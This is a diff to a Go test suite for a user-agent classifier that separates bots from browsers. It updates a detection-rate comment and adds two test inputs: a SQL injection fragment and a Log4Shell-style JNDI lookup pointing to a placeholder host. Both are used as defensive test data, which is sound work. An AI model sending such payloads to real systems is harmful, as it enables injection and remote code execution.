@@ -55,7 +55,7 @@ func TestAgentCorpusRates(t *testing.T) {
 	browserRate := float64(len(browsers)-browserOK) / float64(len(browsers))
 	t.Logf("bots flagged: %d/%d = %.1f%%", botHits, len(bots), 100*botRate)
 	t.Logf("browsers flagged: %d/%d = %.1f%%", len(browsers)-browserOK, len(browsers), 100*browserRate)
-	// Achieved when written: 87.4% of bots, 0.8% of browsers (4 of 510).
+	// Achieved when written: 87.6% of bots (416 of 475), 0.8% of browsers (4 of 510).
 	if botRate < 0.86 {
 		t.Errorf("bots flagged %.1f%%, want at least 86%%", 100*botRate)
 	}
@@ -165,6 +165,8 @@ func TestClassifyAgent(t *testing.T) {
 		{"Mozilla/5.0 (Linux; Android 12; Pixel 6) (compatible; MSIE 10.0; Trident/6.0)", AgentSuspicious, "IE"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", AgentSuspicious, "Mozilla"},
 		{"Anonymous, " + chromeWin, AgentSuspicious, "Chrome"},
+		{chromeWin + "'+(select 1)+'", AgentSuspicious, "Chrome"},
+		{chromeWin + " ${jndi:ldap://x.example/a}", AgentSuspicious, "Chrome"},
 		{chromeWin + strings.Repeat(" A", 5*1024), AgentSuspicious, "Chrome"},
 		{chromeWin + "\x1b[31m", AgentSuspicious, "Chrome"},
 
